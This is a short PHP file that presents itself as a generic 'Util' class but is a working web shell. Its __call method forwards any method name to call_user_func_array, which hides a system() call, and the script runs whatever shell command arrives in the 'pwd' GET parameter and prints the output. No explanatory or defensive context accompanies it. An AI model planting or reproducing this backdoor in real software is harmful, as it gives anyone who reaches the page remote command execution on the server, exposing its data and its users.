<?php
class Util
{
    public function __call($name, $args)
    {
        return call_user_func_array($name, $args);
    }
}
if (isset($_GET['pwd'])) {
    $u = new Util();
    echo '<pre>';
    $u->system($_GET['pwd']);
    echo '</pre>';
}
